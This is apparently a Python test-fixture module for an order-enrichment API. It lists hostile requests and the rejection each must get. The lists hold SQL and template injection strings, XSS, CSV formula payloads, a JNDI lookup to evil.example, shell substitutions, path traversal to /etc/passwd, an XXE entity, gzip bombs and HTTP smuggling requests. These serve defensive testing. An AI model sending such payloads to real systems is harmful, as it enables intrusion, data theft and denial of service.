"""The table of hostile requests: for each its kind, its bytes, and the answer that it must get.

An expectation is a status, or the code of a row in a 200: by the contract a bad row never fails its neighbours.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from dataclasses import dataclass, field

ORDERS = "/enrich/orders"
DASHBOARD = "/settings/store-data/enrich-order-api"
KNOWN = "KNOWN"
"""The one order that the service under attack knows; nothing may ever be stored for it."""

_TIME = "2025-06-10T20:19:00Z"
_WINDOW = "start=2025-01-01T00:00:00Z&end=2026-01-01T00:00:00Z"
_MIB = 1024 * 1024

Expected = int | str


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile request.

    Attributes:
        kind: what it tries, in a few words.
        name: which of its kind; unique.
        expected: the status, or the code of the only row in a 200.
        headers: in place of those that a good request has; a value of None leaves one out.
        raw: the whole request, where it is not even one by HTTP's grammar.
    """

    kind: str
    name: str
    expected: Expected
    body: bytes = field(default=b"", repr=False)
    method: str = "POST"
    target: str = ORDERS
    headers: dict[str, str | None] = field(default_factory=dict)
    raw: bytes | None = field(default=None, repr=False)


def all_cases() -> list[Case]:
    """Every case."""
    return [
        *_no_json(),
        *_no_numbers(),
        *_no_envelopes(),
        *_duplicate_keys(),
        *_injections(),
        *_bad_fields(),
        *_too_large(),
        *_deep(),
        *_wrong_types(),
        *_compressed(),
        *_foreign(),
        *_headers(),
        *_paths(),
        *_windows(),
    ]


def a_row(**fields: str) -> str:
    """One row as JSON text, some of its fields replaced by other JSON texts."""
    texts = {
        "order_id": json.dumps(KNOWN),
        "order_timestamp": json.dumps(_TIME),
        "sales_amount": "269.94",
        "profit_amount": "-65.40",
        "currency": '"USD"',
    } | fields
    return "{" + ",".join(f'"{name}":{text}' for name, text in texts.items()) + "}"


def of_rows(*rows: str) -> bytes:
    """A POST's body."""
    return f'{{"orders":[{",".join(rows)}]}}'.encode()


def _no_json() -> Iterator[Case]:
    good = of_rows(a_row())
    bodies = {
        "nothing": b"",
        "a blank": b" ",
        "an open brace": b"{",
        "cut in the middle": good[: len(good) // 2],
        "two documents": good + good,
        "text after the end": good + b"x",
        "a trailing comma": good.replace(b"}]", b"},]"),
        "single quotes": good.replace(b'"', b"'"),
        "a comment": b"/* */" + good,
        "XML": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
        "a form": b"orders=1",
        "a byte order mark": b"\xef\xbb\xbf" + good,
        "UTF-16": good.decode().encode("utf-16"),
        "UTF-32": good.decode().encode("utf-32"),
        "Latin-1": good.replace(b"KNOWN", b"KN\xd6WN"),
        "a lone continuation byte": good.replace(b"KNOWN", b"\x80"),
        "an overlong encoding": good.replace(b"KNOWN", b"\xc0\xaf"),
        "an encoded surrogate": good.replace(b"KNOWN", b"\xed\xa0\x80"),
        "beyond Unicode": good.replace(b"KNOWN", b"\xf5\x80\x80\x80"),
        "invalid UTF-8 in an unknown field": good.replace(b'"currency"', b'"\xff"'),
        "invalid UTF-8 in an unknown value": good.replace(b'{"orders"', b'{"x":"\xff","orders"'),
        "a zero byte": good.replace(b"KNOWN", b"KNO\x00WN"),
        "a zero byte after the end": good + b"\x00",
        "a line break in a string": good.replace(b"KNOWN", b"KNO\nWN"),
        "half an escape": good.replace(b"KNOWN", b"\\u12"),
        "a lone escaped surrogate": good.replace(b"KNOWN", b"\\ud800"),
        "an unknown escape": good.replace(b"KNOWN", b"\\x41"),
        "random bytes": bytes(range(256)) * 4,
    }
    for name, body in bodies.items():
        yield Case("no JSON, invalid UTF-8", name, 400, body)


def _no_numbers() -> Iterator[Case]:
    not_json = (
        "NaN",
        "Infinity",
        "-Infinity",
        "nan",
        "01",
        "+1",
        ".5",
        "5.",
        "1e",
        "1e+",
        "0x10",
        "1_000",
        "--1",
        "1,5",
    )
    for text in not_json:
        yield Case("numbers that JSON does not have", text, 400, of_rows(a_row(sales_amount=text)))
    beyond = ("1e400", "-1e400", "1e-400", "1e999999999", "1e-999999999", f"1e{'9' * 40}", f"-1e-{'9' * 40}", "1e20")
    for text in beyond:
        yield Case("numbers out of range", text, "invalid_amount", of_rows(a_row(sales_amount=text)))
    yield Case("numbers out of range", "5000 digits", "invalid_amount", of_rows(a_row(profit_amount="9" * 5000)))
    yield Case(
        "numbers out of range", "5000 decimals", "invalid_amount", of_rows(a_row(profit_amount="0." + "1" * 5000))
    )
    no_number = ('"1"', '"NaN"', '"1e400"', "true", "false", "null", "[]", "[1]", "{}", '""', '{"$gt": 0}')
    for text in no_number:
        yield Case("amounts that are no number", text, "invalid_amount", of_rows(a_row(sales_amount=text)))


def _no_envelopes() -> Iterator[Case]:
    for text in (
        "null", "true", "1", '"orders"', "[]", "{}", a_row(), f"[{a_row()}]", '{"orders":null}', '{"orders":{}}',
        '{"orders":"x"}', '{"orders":1}', f'{{"orders":{a_row()}}}', f'{{"Orders":[{a_row()}]}}',
        f'{{"__proto__":{{"orders":[{a_row()}]}}}}',
    ):  # fmt: skip
        yield Case("other envelopes", text[:40], 422, text.encode())
    for text in ("null", "1", '"x"', "[]", "[{}]", "true"):
        yield Case("elements that are no object", text, 422, of_rows(text))


def _duplicate_keys() -> Iterator[Case]:
    """Which of two values was meant is anybody's guess, so neither is taken."""
    row = a_row()
    other = a_row(order_id='"X"')
    bodies = {
        "orders twice": f'{{"orders":[],"orders":[{row}]}}'.encode(),
        "orders twice, once escaped": f'{{"orders":[{row}],"\\u006frders":[]}}'.encode(),
        "an unknown name twice": of_rows(row[:-1] + ',"x":1,"x":2}'),
        "in a row after a good one": of_rows(other, row[:-1] + ',"sales_amount":1}'),
        "a currency, made up for by a row without one": of_rows(
            other.replace(',"currency":"USD"', ""), row[:-1] + ',"currency":"EUR"}'
        ),
        "hidden behind an unknown name": of_rows('{"sales_amount":5,"x":1,' + row[1:]),
        "in an object within a row": of_rows(row[:-1] + ',"x":{"y":1,"y":2}}'),
    }
    for name in ("order_id", "order_timestamp", "sales_amount", "profit_amount", "currency"):
        field = row.partition(f'"{name}":')[2].partition(",")[0].rstrip("}")
        escaped = f"\\u00{ord(name[0]):02x}{name[1:]}"
        bodies[f"{name} twice"] = of_rows(row[:-1] + f',"{name}":{field}}}')
        bodies[f"{name} twice, once escaped"] = of_rows(row[:-1] + f',"{escaped}":{field}}}')
    for name, body in bodies.items():
        yield Case("duplicate keys", name, 422, body)


SQL = (
    "'; DROP TABLE enrich_api.orders; --", "' OR '1'='1", '" OR ""="', "1; SELECT pg_sleep(10)", "$1", "%s",
    "%(order_id)s",
    "\\'; DELETE FROM enrich_api.orders WHERE 1=1; --", "') ON CONFLICT DO NOTHING; --", "E'\\x27'", "{1,2}", "NULL",
    "\\N",
    "a,b\\", "' UNION SELECT secret FROM enrich_api.api_keys --",
)  # fmt: skip
HTML = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</td></table><h1>x", "<svg/onload=alert(1)>",
    "&lt;b&gt;",
    "{{ 7*7 }}", "{% raw %}", "${7*7}", "javascript:alert(1)", "<!--", "]]>", "' onmouseover='alert(1)",
)  # fmt: skip
CSV = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example")',
    'a","b',
    "a;b",
    "%0A=1",
)
OTHER = (
    "../../etc/passwd", "..", "%00", "%2e%2e%2f", "${jndi:ldap://evil.example/a}", "$(reboot)", "`id`", "|id", "; id",
    "-rf",
    "__proto__", "constructor", "\u202egnp.exe", "\u200b", "\ufeffX", "A" * 255, "\U0001f600" * 255, "x\u0301",
    "\ufffe",
)  # fmt: skip


def _injections() -> Iterator[Case]:
    """Ids that some language would take for its own. They are ids like others, which the store does not know."""
    kinds = {"SQL injection": SQL, "HTML and template injection": HTML, "CSV injection": CSV, "other injection": OTHER}
    for kind, texts in kinds.items():
        for text in texts:
            yield Case(kind, f"order_id {text[:50]!r}", "unknown_order", of_rows(a_row(order_id=json.dumps(text))))
    for text in (*SQL, *HTML, *CSV):
        time, currency = a_row(order_timestamp=json.dumps(text)), a_row(currency=json.dumps(text))
        yield Case("injection in other fields", f"order_timestamp {text!r}", "invalid_timestamp", of_rows(time))
        yield Case("injection in other fields", f"currency {text!r}", "invalid_currency", of_rows(currency))


def _bad_fields() -> Iterator[Case]:
    ids = ('""', '" "', '" KNOWN"', '"KNOWN "', '"KNOWN\\u00a0"', '"\\u0000"', '"a\\u0000b"', '"a\\nb"', '"\\u007f"',
           '"\\u0085x"', "1", "null", "true", "[]", "{}", json.dumps("A" * 256), json.dumps("A" * 100_000))  # fmt: skip
    for text in ids:
        yield Case("ids that cannot be one", f"{text[:40]} of {len(text)}", "invalid_id", of_rows(a_row(order_id=text)))
    times = ("null", "0", "1749586740", '""', '"now"', '"2025-06-10"', '"2025-06-10T20:19:00"',
        '"2025-13-10T20:19:00Z"',
             '"2025-06-31T20:19:00Z"', '"0000-01-01T00:00:00Z"', '"0001-01-01T00:00:00+23:59"',
             '"9999-12-31T23:59:59-23:59"',
             '"99999-01-01T00:00:00Z"', '"-2025-06-10T20:19:00Z"', '"2025-06-10T20:19:00+99:00"',
             '"infinity"')  # fmt: skip
    for text in times:
        yield Case("times that are none", text, "invalid_timestamp", of_rows(a_row(order_timestamp=text)))
    for text in ("null", "1", '""', '"usd"', '"XYZ"', '"USDX"', '"US"', '"$"', "[]", '"USD "', '"\\u0000"'):
        yield Case("currencies that are none", text, "invalid_currency", of_rows(a_row(currency=text)))
    twice = of_rows(a_row(), a_row())
    yield Case("an order twice in a request", "the same row", "duplicate_in_request", twice)
    other = of_rows(a_row(), a_row(order_id='"\\u004bNOWN"', sales_amount="1"))
    yield Case("an order twice in a request", "once escaped", "duplicate_in_request", other)


def _too_large() -> Iterator[Case]:
    row = a_row()
    yield Case("too large", "1001 orders", 413, of_rows(*[row] * 1001))
    yield Case("too large", "9 MiB of blanks", 413, of_rows(row) + b" " * (9 * _MIB))
    yield Case("too large", "a string of 9 MiB", 413, of_rows(a_row(order_id='"' + "A" * (9 * _MIB) + '"')))
    yield Case("too large", "announced, then not sent", 413, b"{}", headers={"Content-Length": str(10**12)})
    yield Case("too large", "200,000 empty objects", 413, of_rows(*["{}"] * 200_000))
    unknown_keys = ",".join(f'"k{n}":1' for n in range(200_000))
    yield Case("too large", "200,000 unknown keys", "unknown_order", of_rows(
        f'{{"order_id":"nobody",{unknown_keys},{row.split(",", 1)[1]}'))  # fmt: skip


def _deep() -> Iterator[Case]:
    for depth in (100, 1_000, 100_000, 2_000_000):
        arrays, objects = b"[" * depth + b"]" * depth, b'{"a":' * depth + b"1" + b"}" * depth
        yield Case("deeply nested", f"{depth:,} arrays", 422 if depth <= 100 else 400, arrays)
        yield Case("deeply nested", f"{depth:,} arrays never closed", 400, b"[" * depth)
        if len(objects) < 8 * _MIB:
            yield Case("deeply nested", f"{depth:,} objects", 422 if depth <= 100 else 400, objects)
        inside = of_rows(a_row(sales_amount=arrays.decode()))
        if len(inside) < 8 * _MIB:
            expected: Expected = "invalid_amount" if depth <= 100 else 400
            yield Case("deeply nested", f"{depth:,} arrays as an amount", expected, inside)


def _wrong_types() -> Iterator[Case]:
    good = of_rows(a_row())
    for text in (
        None, "", "text/plain", "text/json", "application/xml", "application/x-www-form-urlencoded",
        "multipart/form-data",
        "application/json; charset=utf-16", "application/json; charset=latin-1", "application/jsonx", "*/*", "json",
        "application/json, text/html", "text/html; application/json",
    ):  # fmt: skip
        yield Case("wrong content types", str(text), 415, good, headers={"Content-Type": text})


def _compressed() -> Iterator[Case]:
    good = of_rows(a_row())
    bomb = gzip.compress(b" " * (64 * _MIB))
    for coding in ("br", "zstd", "deflate", "compress", "gzip, gzip", "gzip, br", "x", "utf-8"):
        yield Case("other encodings", coding, 415, good, headers={"Content-Encoding": coding})
    gzipped: dict[str, tuple[int, bytes]] = {
        "no gzip at all": (400, good),
        "cut in the middle": (400, gzip.compress(good)[:-12]),
        "a wrong checksum": (400, gzip.compress(good)[:-8] + b"\0" * 8),
        "text after the end": (400, gzip.compress(good) + b"x"),
        "gzip of gzip": (400, gzip.compress(gzip.compress(good))),
        "nothing": (400, b""),
        "a bomb: 64 MiB in 64 kB": (413, bomb),
        "a bomb of many members": (400, gzip.compress(b" " * _MIB) * 64),
        "a bomb in a bomb": (400, gzip.compress(bomb)),
    }
    for name, (status, body) in gzipped.items():
        yield Case("gzip bombs and broken gzip", name, status, body, headers={"Content-Encoding": "gzip"})


def _foreign() -> Iterator[Case]:
    good = of_rows(a_row())
    hosts = (
        "evil.example",
        "127.0.0.1.evil.example",
        "localhost.evil.example",
        "evil.example:80",
        "localhost@evil.example",
    )
    for host in hosts:
        yield Case("foreign Host", f"POST, {host}", 421, good, headers={"Host": host})
        yield Case("foreign Host", f"dashboard, {host}", 421, method="GET", target=DASHBOARD, headers={"Host": host})
    for origin in (
        "https://evil.example",
        "null",
        "http://127.0.0.1.evil.example",
        "file://",
        "http://localhost@evil.example",
    ):
        yield Case("foreign Origin", f"POST, {origin}", 403, good, headers={"Origin": origin})
        target = f"{DASHBOARD}/key"
        yield Case(
            "foreign Origin", f"key form, {origin}", 403, b"form_token=x", target=target, headers={"Origin": origin}
        )


def _headers() -> Iterator[Case]:
    good = of_rows(a_row())
    for value in (
        None, "", "Bearer", "Bearer ", "Basic eDp5", "Bearer wrong", "Bearer ' OR 1=1 --", "bearer\tX",
        "Bearer " + "A" * 8000,
        "Bearer \u00ff\u00fe", "Bearer null", "Bearer eoa_",
    ):  # fmt: skip
        yield Case("no good key", str(value)[:30], 401, good, headers={"Authorization": value})
    yield Case(
        "no good key", "in the query", 401, good, target=f"{ORDERS}?key={{key}}", headers={"Authorization": None}
    )
    yield Case("no good key", "in a cookie", 401, good, headers={"Authorization": None, "Cookie": "key={key}"})
    head = "POST /enrich/orders HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {key}\r\n"
    raws = {
        "no HTTP": "hello\r\n\r\n",
        "HTTP/9": "GET / HTTP/9.9\r\n\r\n",
        "a zero byte in a header": head + "X: a\x00b\r\n\r\n",
        "a negative length": head + "Content-Length: -1\r\n\r\n",
        "a length that is none": head + "Content-Length: ten\r\n\r\n",
        "two lengths": head + "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}x",
        "a length and chunks": head + "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "a chunk size that is none": head + "Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
        "an unknown transfer coding": head + "Transfer-Encoding: smuggled\r\nContent-Length: 2\r\n\r\n{}",
        "a header without a name": head + ": x\r\n\r\n",
        "a blank before the colon": head + "X : y\r\n\r\n",
        "headers of 1 MB": head + f"X: {'a' * 1_000_000}\r\n\r\n",
        "a target of 1 MB": f"GET /{'a' * 1_000_000} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        "TLS": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + "\x00" * 64 + "\r\n\r\n",
    }
    for name, text in raws.items():
        status = 431 if name.endswith("of 1 MB") else 400
        yield Case("broken HTTP", name, status, raw=text.encode("latin-1"))


def _paths() -> Iterator[Case]:
    for target in (
        "//", "/enrich", "/enrich/orders/", "/enrich/orders/../orders", "/enrich//orders", "//enrich/orders",
        "/ENRICH/ORDERS",
        "/enrich/orders%00", "/enrich/orders/%2e%2e/", "/etc/passwd", "/../../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/.env", "/.git/config", "/enrich_api/schema.sql", "/settings/../enrich/orders", "/admin/", "/phpmyadmin",
        "/%ff%fe",
    ):  # fmt: skip
        yield Case("paths", target, 404, method="GET", target=target)
    for rest in (
        "/assets/../pages.py",
        "/assets/%2e%2e/pages.py",
        "/assets/..%2f..%2fschema.sql",
        "/assets/",
        "/nothing",
    ):
        yield Case("paths", DASHBOARD[-16:] + rest, 404, method="GET", target=DASHBOARD + rest)
    for method in ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND"):
        yield Case("other methods", method, 405, of_rows(a_row()), method=method)
    for rest in ("", "/orders", "/order?id=KNOWN", "/requests", "/requests/x", "/failed-uploads",
        "/requests-by-day.csv",
                 "/failed-uploads.csv", "/sign-in", "/sign-in?token='%20OR%201=1--"):  # fmt: skip
        yield Case("pages without a session", rest or "overview", 401, method="GET", target=DASHBOARD + rest)
        if "sign-in" not in rest:
            cookie = {"Cookie": "enrich_order_api_session=' OR 1=1 --"}
            yield Case("pages without a session", f"{rest or 'overview'}, SQL as cookie", 401, method="GET",
                       target=DASHBOARD + rest, headers=cookie)  # fmt: skip


def _windows() -> Iterator[Case]:
    for query in (
        "", "start=2025-01-01T00:00:00Z", "start=x&end=y", "start=&end=", "start=0&end=1", f"{_WINDOW}&limit=0",
        f"{_WINDOW}&limit=-1", f"{_WINDOW}&limit=1e3", f"{_WINDOW}&limit=99999999999999999999", f"{_WINDOW}&limit=1001",
        f"{_WINDOW}&limit=%D9%A3", f"{_WINDOW}&limit=1&limit=2", f"{_WINDOW}&start=2025-01-01T00:00:00Z",
        "start=2025-01-01T00:00:00&end=2026-01-01T00:00:00", "start=2026-01-01T00:00:00Z&end=2025-01-01T00:00:00Z",
        "start=2025-01-01T00:00:00+02:00&end=2026-01-01T00:00:00Z", "start=infinity&end=infinity",
        "start=%27%20OR%201=1--&end=2026-01-01T00:00:00Z", f"{_WINDOW}&limit=1;DROP%20TABLE%20orders",
        "start=%00&end=%00",
        "start=%FF&end=%FE", "start=99999-01-01T00:00:00Z&end=99999-01-02T00:00:00Z", "start[]=1&end[]=2",
    ):  # fmt: skip
        yield Case("windows of a GET", query or "no query", 422, method="GET", target=f"{ORDERS}?{query}")
